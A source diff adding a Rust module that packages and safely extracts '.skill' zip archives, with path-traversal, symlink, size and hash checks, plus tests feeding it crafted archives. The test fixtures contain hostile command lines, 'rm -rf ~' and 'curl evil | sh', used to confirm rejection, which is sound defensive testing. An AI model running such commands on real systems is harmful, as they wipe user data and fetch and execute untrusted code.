@@ -0,0 +1,384 @@
+//! Skill package module
+//!
+//! This module handles:
+//! - The `.skill` file format: a zip with a `manifest.json` and the skill's
+//!   files under `<id>/`
+//! - Writing packages from a skill's files
+//! - Reading packages with the safe-extraction rules (no paths outside the
+//!   skill, no links, size and entry limits) and checking their hash
+//!
+//! Installing a package (scan, metadata) is done by `Skills::unpack`.
+
+use crate::{Result, RhinolabsError, Skills};
+use chrono::Utc;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::{Cursor, Read, Write};
+use std::path::{Component, Path};
+use zip::write::FileOptions;
+
+/// File extension of skill packages
+pub const PACKAGE_EXTENSION: &str = "skill";
+
+/// Package format written by this version
+pub const PACKAGE_FORMAT: u32 = 1;
+
+const MANIFEST_FILE: &str = "manifest.json";
+
+/// Limits applied when reading a package, so a crafted archive can't
+/// exhaust memory or disk
+const MAX_PACKAGE_FILES: usize = 1000;
+const MAX_PACKAGE_BYTES: u64 = 50 * 1024 * 1024;
+
+// ============================================
+// Types
+// ============================================
+
+/// What a package says about the skill it contains
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct SkillManifest {
+    /// Package format version
+    pub format: u32,
+    pub id: String,
+    pub name: String,
+    pub description: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub version: Option<String>,
+    /// Source the skill was installed from, if any
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub source_id: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub source_name: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub category: Option<String>,
+    #[serde(default)]
+    pub tags: Vec<String>,
+    /// Skills it requires (`requires` in the frontmatter)
+    #[serde(default)]
+    pub requires: Vec<String>,
+    #[serde(default)]
+    pub conflicts: Vec<String>,
+    /// SHA-256 of the skill's files (see `Skills::hash_files`)
+    pub hash: String,
+    /// RFC 3339 time the package was created
+    pub created_at: String,
+}
+
+/// A package read into memory: its manifest and the skill's files by
+/// relative path
+#[derive(Debug, Clone)]
+pub struct SkillPackageContents {
+    pub manifest: SkillManifest,
+    pub files: BTreeMap<String, Vec<u8>>,
+}
+
+// ============================================
+// Package Format
+// ============================================
+
+pub struct SkillPackage;
+
+impl SkillPackage {
+    /// File name of a package: `<id>-<version>.skill`, or `<id>.skill`
+    pub fn file_name(manifest: &SkillManifest) -> String {
+        match &manifest.version {
+            Some(version) => format!("{}-{}.{}", manifest.id, version, PACKAGE_EXTENSION),
+            None => format!("{}.{}", manifest.id, PACKAGE_EXTENSION),
+        }
+    }
+
+    /// Write a package to `path`
+    pub fn write(
+        path: &Path,
+        manifest: &SkillManifest,
+        files: &BTreeMap<String, Vec<u8>>,
+    ) -> Result<()> {
+        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
+        let options = FileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+
+        zip.start_file(MANIFEST_FILE, options)?;
+        zip.write_all(serde_json::to_string_pretty(manifest)?.as_bytes())?;
+        for (relative, content) in files {
+            zip.start_file(format!("{}/{}", manifest.id, relative), options)?;
+            zip.write_all(content)?;
+        }
+
+        let bytes = zip.finish()?.into_inner();
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(path, bytes)?;
+        Ok(())
+    }
+
+    /// Read and validate a package. Fails on entries outside the skill's
+    /// directory, links, oversized archives and files not matching the hash.
+    pub fn read(path: &Path) -> Result<SkillPackageContents> {
+        let invalid = |reason: String| {
+            RhinolabsError::ConfigError(format!(
+                "{} is not a valid skill package: {}",
+                path.display(),
+                reason
+            ))
+        };
+
+        if fs::metadata(path)?.len() > MAX_PACKAGE_BYTES {
+            return Err(invalid("the file is too large".into()));
+        }
+        let mut archive = zip::ZipArchive::new(Cursor::new(fs::read(path)?))
+            .map_err(|e| invalid(e.to_string()))?;
+        if archive.len() > MAX_PACKAGE_FILES + 1 {
+            return Err(invalid(format!("more than {} files", MAX_PACKAGE_FILES)));
+        }
+
+        let manifest: SkillManifest = {
+            let mut file = archive
+                .by_name(MANIFEST_FILE)
+                .map_err(|_| invalid(format!("{} is missing", MANIFEST_FILE)))?;
+            let mut content = String::new();
+            file.read_to_string(&mut content)?;
+            serde_json::from_str(&content).map_err(|e| invalid(e.to_string()))?
+        };
+        if manifest.format > PACKAGE_FORMAT {
+            return Err(invalid(format!(
+                "format {} needs a newer rhinolabs-ai",
+                manifest.format
+            )));
+        }
+        Self::validate_id(&manifest.id).map_err(invalid)?;
+
+        let prefix = format!("{}/", manifest.id);
+        let mut files = BTreeMap::new();
+        let mut total: u64 = 0;
+        for i in 0..archive.len() {
+            let mut file = archive.by_index(i)?;
+            let name = file.name().to_string();
+            if name == MANIFEST_FILE || file.is_dir() {
+                continue;
+            }
+
+            let relative = name
+                .strip_prefix(&prefix)
+                .filter(|relative| Self::is_safe_path(relative))
+                .ok_or_else(|| invalid(format!("unexpected entry '{}'", name)))?
+                .to_string();
+            if file
+                .unix_mode()
+                .is_some_and(|mode| mode & 0o170000 == 0o120000)
+            {
+                return Err(invalid(format!("'{}' is a link", name)));
+            }
+
+            // Sizes in the archive can lie, so count what is actually read
+            let mut content = Vec::new();
+            file.by_ref()
+                .take(MAX_PACKAGE_BYTES - total + 1)
+                .read_to_end(&mut content)?;
+            total += content.len() as u64;
+            if total > MAX_PACKAGE_BYTES {
+                return Err(invalid("the skill's files are too large".into()));
+            }
+            files.insert(relative, content);
+        }
+
+        if !files.contains_key("SKILL.md") {
+            return Err(invalid("SKILL.md is missing".into()));
+        }
+        if Skills::hash_files(&files) != manifest.hash {
+            return Err(invalid(
+                "its files don't match the manifest hash (corrupted or altered)".into(),
+            ));
+        }
+
+        Ok(SkillPackageContents { manifest, files })
+    }
+
+    /// Build the manifest of a skill's files
+    #[allow(clippy::too_many_arguments)]
+    pub(crate) fn manifest(
+        id: &str,
+        name: &str,
+        description: &str,
+        version: Option<String>,
+        source: Option<(String, String)>,
+        category: Option<String>,
+        tags: Vec<String>,
+        requires: Vec<String>,
+        conflicts: Vec<String>,
+        files: &BTreeMap<String, Vec<u8>>,
+    ) -> SkillManifest {
+        let (source_id, source_name) = source.unzip();
+        SkillManifest {
+            format: PACKAGE_FORMAT,
+            id: id.to_string(),
+            name: name.to_string(),
+            description: description.to_string(),
+            version,
+            source_id,
+            source_name,
+            category,
+            tags,
+            requires,
+            conflicts,
+            hash: Skills::hash_files(files),
+            created_at: Utc::now().to_rfc3339(),
+        }
+    }
+
+    /// Ids name the skill's directory, so no separators or leading dots
+    pub(crate) fn validate_id(id: &str) -> std::result::Result<(), String> {
+        if id.is_empty() || id.starts_with('.') || id.contains(['/', '\\', ':']) {
+            return Err(format!("invalid skill id '{}'", id));
+        }
+        Ok(())
+    }
+
+    /// Relative path made of normal components only
+    pub(crate) fn is_safe_path(relative: &str) -> bool {
+        !relative.is_empty()
+            && !relative.contains('\\')
+            && Path::new(relative)
+                .components()
+                .all(|c| matches!(c, Component::Normal(_)))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn skill_files() -> BTreeMap<String, Vec<u8>> {
+        let mut files = BTreeMap::new();
+        files.insert(
+            "SKILL.md".to_string(),
+            b"---\nname: Docker\ndescription: Containers\n---\n\n# Docker\n".to_vec(),
+        );
+        files.insert("docs/guide.md".to_string(), b"Build images\n".to_vec());
+        files
+    }
+
+    fn manifest(files: &BTreeMap<String, Vec<u8>>) -> SkillManifest {
+        SkillPackage::manifest(
+            "docker",
+            "Docker",
+            "Containers",
+            Some("1.2.0".into()),
+            None,
+            None,
+            vec!["devops".into()],
+            vec![],
+            vec![],
+            files,
+        )
+    }
+
+    /// Zip with arbitrary entries, for packages this module wouldn't write
+    fn raw_package(path: &Path, manifest: &SkillManifest, entries: &[(&str, &[u8])]) {
+        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
+        let options = FileOptions::default();
+        zip.start_file(MANIFEST_FILE, options).unwrap();
+        zip.write_all(serde_json::to_string(manifest).unwrap().as_bytes())
+            .unwrap();
+        for (name, content) in entries {
+            zip.start_file(*name, options).unwrap();
+            zip.write_all(content).unwrap();
+        }
+        fs::write(path, zip.finish().unwrap().into_inner()).unwrap();
+    }
+
+    #[test]
+    fn test_package_roundtrip() {
+        let dir = tempfile::tempdir().unwrap();
+        let files = skill_files();
+        let manifest = manifest(&files);
+        assert_eq!(SkillPackage::file_name(&manifest), "docker-1.2.0.skill");
+
+        let path = dir.path().join(SkillPackage::file_name(&manifest));
+        SkillPackage::write(&path, &manifest, &files).unwrap();
+
+        let package = SkillPackage::read(&path).unwrap();
+        assert_eq!(package.manifest.id, "docker");
+        assert_eq!(package.manifest.tags, vec!["devops"]);
+        assert_eq!(package.files, files);
+    }
+
+    #[test]
+    fn test_read_rejects_unsafe_and_altered_packages() {
+        let dir = tempfile::tempdir().unwrap();
+        let files = skill_files();
+        let manifest = manifest(&files);
+        let skill_md = files["SKILL.md"].as_slice();
+        let guide = files["docs/guide.md"].as_slice();
+
+        let read = |name: &str, manifest: &SkillManifest, entries: &[(&str, &[u8])]| {
+            let path = dir.path().join(name);
+            raw_package(&path, manifest, entries);
+            SkillPackage::read(&path).unwrap_err().to_string()
+        };
+
+        // Paths escaping the skill directory
+        let error = read(
+            "escape.skill",
+            &manifest,
+            &[
+                ("docker/SKILL.md", skill_md),
+                ("docker/../../evil.sh", b"rm -rf ~"),
+            ],
+        );
+        assert!(error.contains("unexpected entry"));
+
+        // Files outside the skill's directory
+        let error = read(
+            "outside.skill",
+            &manifest,
+            &[("docker/SKILL.md", skill_md), ("other/SKILL.md", skill_md)],
+        );
+        assert!(error.contains("unexpected entry 'other/SKILL.md'"));
+
+        // Content changed after packing
+        let error = read(
+            "altered.skill",
+            &manifest,
+            &[
+                ("docker/SKILL.md", skill_md),
+                ("docker/docs/guide.md", b"curl evil | sh\n"),
+            ],
+        );
+        assert!(error.contains("manifest hash"));
+
+        // Ids that would be used as paths
+        let traversal = SkillManifest {
+            id: "../docker".into(),
+            ..manifest.clone()
+        };
+        let error = read(
+            "id.skill",
+            &traversal,
+            &[
+                ("../docker/SKILL.md", skill_md),
+                ("../docker/docs/guide.md", guide),
+            ],
+        );
+        assert!(error.contains("invalid skill id"));
+
+        // Packages from a newer format
+        let newer = SkillManifest {
+            format: PACKAGE_FORMAT + 1,
+            ..manifest.clone()
+        };
+        let error = read(
+            "newer.skill",
+            &newer,
+            &[
+                ("docker/SKILL.md", skill_md),
+                ("docker/docs/guide.md", guide),
+            ],
+        );
+        assert!(error.contains("newer"));
+
+        fs::write(dir.path().join("plain.skill"), "not a zip").unwrap();
+        assert!(SkillPackage::read(&dir.path().join("plain.skill")).is_err());
+    }
+}